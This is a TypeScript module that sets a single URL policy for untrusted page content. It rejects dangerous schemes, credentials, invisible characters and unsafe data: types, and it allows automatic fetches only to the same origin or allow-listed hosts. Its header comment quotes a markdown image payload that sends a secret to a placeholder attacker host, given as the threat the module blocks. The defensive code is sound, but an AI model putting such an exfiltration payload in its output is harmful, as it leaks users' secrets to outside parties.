import { isSafeInlineType, normalizeMediaType } from './media-type.js';

/*
 * One policy for every URL that content can put on the page: links, images, audio and video
 * sources, document previews, citations and downloads. It decides on the parsed URL, never on
 * a substring match, and it separates two questions:
 *
 *   - may this URL be used at all?            (scheme, userinfo, obfuscation, data: types)
 *   - may the page fetch it before the user acts? (same origin or the app's allow-list only —
 *     the defence against `![](https://attacker.example/?q=<secret>)` exfiltration)
 */

/** Where a URL is about to be used. */
export type UrlUse = 'link' | 'image' | 'audio' | 'video' | 'document' | 'download';

export interface UrlPolicyOptions {
  /** The page's origin (`window.location.origin`); same-origin media loads without a click. */
  origin?: string | null;
  /** URL prefixes whose media may load without a click, e.g. `https://cdn.example.com/images/`. */
  mediaAllowlist?: readonly string[];
  /** Largest `data:` URL accepted, in characters. @default 10 MB */
  maxDataUrlLength?: number;
}

export type UrlDecision =
  | {
      allowed: true;
      /** The URL to put in the attribute. */
      href: string;
      /** The host to name to the user (`null` for relative and `data:` URLs). */
      host: string | null;
      /** True when the page may fetch it now; false means "click to load". */
      autoLoad: boolean;
    }
  | {
      allowed: false;
      /** Why it was rejected, for a tooltip or a test. */
      reason: string;
    };

const DEFAULT_MAX_DATA_URL = 10 * 1024 * 1024;
const LINK_SCHEMES = new Set(['http:', 'https:', 'mailto:']);
const FETCH_SCHEMES = new Set(['http:', 'https:']);
// C0 and C1 controls, and the invisible characters browsers strip or ignore inside URLs.
/* eslint-disable no-control-regex -- finding control characters is the point */
const CONTROL_OR_INVISIBLE =
  /[\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
/* eslint-enable no-control-regex */
const SCHEME = /^([a-z][a-z0-9+.-]*):/i;

interface ParsedUrl {
  href: string;
  protocol: string;
  username: string;
  password: string;
  hostname: string;
  host: string;
  origin: string;
  pathname: string;
}
const UrlClass = (globalThis as { URL?: new (input: string, base?: string) => ParsedUrl }).URL;

function parse(input: string, base?: string): ParsedUrl | null {
  if (!UrlClass) return null;
  try {
    return new UrlClass(input, base);
  } catch {
    return null;
  }
}

function reject(reason: string): UrlDecision {
  return { allowed: false, reason };
}

/** Decides whether `raw`, written by untrusted content, may be used as `use`. */
export function checkUrl(raw: string, use: UrlUse, options: UrlPolicyOptions = {}): UrlDecision {
  if (typeof raw !== 'string') return reject('not a string');
  const url = raw.trim();
  if (url === '') return reject('empty');
  if (CONTROL_OR_INVISIBLE.test(url)) return reject('contains control or invisible characters');
  if (url.includes('\\')) return reject('contains a backslash');

  const scheme = SCHEME.exec(url)?.[1]?.toLowerCase();
  if (scheme === undefined) return checkRelative(url, use, options);
  if (scheme === 'data') return checkDataUrl(url, use, options);
  if (!LINK_SCHEMES.has(`${scheme}:`)) return reject(`the ${scheme}: scheme is not allowed`);
  if (scheme === 'mailto') {
    return use === 'link'
      ? { allowed: true, href: url, host: null, autoLoad: false }
      : reject('mailto: is only for links');
  }

  const parsed = parse(url);
  if (!parsed || !FETCH_SCHEMES.has(parsed.protocol)) return reject('not a valid URL');
  if (parsed.username !== '' || parsed.password !== '')
    return reject('contains credentials (userinfo)');
  return {
    allowed: true,
    href: parsed.href,
    host: parsed.host,
    autoLoad: use !== 'link' && use !== 'download' && mayFetchEarly(parsed, options),
  };
}

function checkRelative(url: string, use: UrlUse, options: UrlPolicyOptions): UrlDecision {
  // A colon before any '/', '?' or '#' is a scheme the browser may read differently from us.
  const firstDelimiter = url.search(/[/?#]/);
  const colon = url.indexOf(':');
  if (colon !== -1 && (firstDelimiter === -1 || colon < firstDelimiter))
    return reject('unrecognised scheme');
  // Protocol-relative URLs point at another host.
  if (url.startsWith('//')) return checkUrl(`https:${url}`, use, options);
  return { allowed: true, href: url, host: null, autoLoad: use !== 'link' && use !== 'download' };
}

function checkDataUrl(url: string, use: UrlUse, options: UrlPolicyOptions): UrlDecision {
  if (use !== 'image' && use !== 'audio' && use !== 'video')
    return reject(`data: URLs are not allowed as a ${use}`);
  if (url.length > (options.maxDataUrlLength ?? DEFAULT_MAX_DATA_URL))
    return reject('data: URL too large');
  const header = /^data:([^,;]*)(;[^,]*)?,/i.exec(url);
  if (!header) return reject('malformed data: URL');
  const mediaType = normalizeMediaType(header[1] ?? '');
  if (!isSafeInlineType(mediaType, use))
    return reject(`data: URLs of type ${mediaType || 'unknown'} are not allowed`);
  return { allowed: true, href: url, host: null, autoLoad: true };
}

/** Same origin, or under an allow-listed prefix; never a private host reached by allow-list. */
function mayFetchEarly(url: ParsedUrl, options: UrlPolicyOptions): boolean {
  if (options.origin && url.origin === options.origin) return true;
  // Encoded dot segments could climb out of an allow-listed path once the server decodes them.
  if (/%2e|%2f|%5c/i.test(url.pathname)) return false;
  if (isPrivateHost(url.hostname)) return false;
  return (options.mediaAllowlist ?? []).some((prefix) => {
    const allowed = parse(prefix);
    if (
      !allowed ||
      !FETCH_SCHEMES.has(allowed.protocol) ||
      allowed.username !== '' ||
      allowed.password !== ''
    )
      return false;
    return allowed.origin === url.origin && url.pathname.startsWith(allowed.pathname);
  });
}

/** Loopback, private, link-local and unqualified hosts. */
export function isPrivateHost(hostname: string): boolean {
  const host = hostname.replace(/^\[|\]$/g, '').toLowerCase();
  if (
    host === 'localhost' ||
    host.endsWith('.localhost') ||
    host.endsWith('.local') ||
    (!host.includes('.') && !host.includes(':'))
  )
    return true;
  if (host === '::1' || host.startsWith('fe80:') || host.startsWith('fc') || host.startsWith('fd'))
    return host.includes(':');
  const octets = host.split('.').map(Number);
  if (octets.length !== 4 || octets.some((part) => !Number.isInteger(part))) return false;
  const [a = 0, b = 0] = octets;
  return (
    a === 127 ||
    a === 10 ||
    a === 0 ||
    (a === 169 && b === 254) ||
    (a === 172 && b >= 16 && b <= 31) ||
    (a === 192 && b === 168)
  );
}

/**
 * A `data:` URL for base64 bytes, only for media types that are safe inline in `use`'s element
 * and within the size cap (checked on the base64 length, before anything is decoded).
 */
export function toDataUrl(
  data: string,
  mediaType: string,
  use: 'image' | 'audio' | 'video',
  options: UrlPolicyOptions = {},
): string | null {
  const essence = normalizeMediaType(mediaType);
  if (!isSafeInlineType(essence, use)) return null;
  if (data.length > (options.maxDataUrlLength ?? DEFAULT_MAX_DATA_URL)) return null;
  if (!/^[A-Za-z0-9+/=\s]*$/.test(data)) return null;
  return `data:${essence};base64,${data.replace(/\s+/g, '')}`;
}
